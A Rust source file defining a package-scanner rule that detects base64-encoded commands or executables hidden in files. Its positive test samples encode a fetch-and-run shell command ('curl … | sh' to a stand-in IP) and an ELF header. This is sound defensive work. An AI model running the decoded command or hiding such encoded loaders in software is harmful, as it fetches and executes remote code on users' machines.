//! `execution-hidden-payload`: an encoded text holds a command or a program.

use crate::finding::{Confidence, Severity};
use crate::scan::command;
use crate::scan::encoded;
use crate::scan::rule::{Check, Circumstance, Reporter, Rule, Sample, TextFile};

/// The rule.
pub static RULE: Rule = Rule {
    id: "execution-hidden-payload",
    title: "An encoded text holds a command that loads code, or a program",
    severity: Severity::Error,
    confidence: Confidence::High,
    why: "Nobody who reads the package sees what the text is, and nothing but code that decodes and runs it has a use for it.",
    fix: "Write the command down as it is; ship programs as source.",
    references: &["CWE-506", "ATT&CK T1027"],
    hits: &[
        Sample::File(
            "scripts/a.json",
            "{\"line\": \"Y3VybCAtcyBodHRwOi8vMTkyLjAuMi43L2Euc2ggfCBzaCAmIGVjaG8gZG9uZQ==\"}\n",
        ),
        Sample::File(
            "scripts/a.py",
            "DATA = 'Y3VybCAtcyBodHRwOi8vMTkyLjAuMi43L2Euc2ggfCBzaCAmIGVjaG8gZG9uZQ=='\n",
        ),
        Sample::File(
            "assets/a.txt",
            "f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAeABAAAAAAABAAAAAAAAAAAAAAAAAAAAAAAAAAEAAOAABAAAA\n",
        ),
    ],
    misses: &[
        Sample::File(
            "scripts/a.py",
            "ICON = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='\n",
        ),
        Sample::File(
            "assets/a.json",
            "{\"text\": \"VGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRoZSBsYXp5IGRvZy4=\"}\n",
        ),
    ],
    check: Check::Text {
        anchors: &[],
        check,
    },
};

fn check(file: &TextFile<'_>, reporter: &mut Reporter<'_>) {
    for (span, bytes) in encoded::all(file.text) {
        let text = String::from_utf8_lossy(&bytes);
        let program = bytes.starts_with(b"\x7fELF")
            || bytes.starts_with(b"MZ\x90\0")
            || bytes.starts_with(b"\xcf\xfa\xed\xfe");
        let code = encoded::is_code(&text);
        if program || command::is_loaded_text(&text) || code {
            let told = reporter.in_documentation();
            let raised = reporter.raise(span);
            if told {
                raised.because(Circumstance::Documentation);
            }
            if program {
                raised.message("An encoded text holds a program");
            }
        }
    }
}
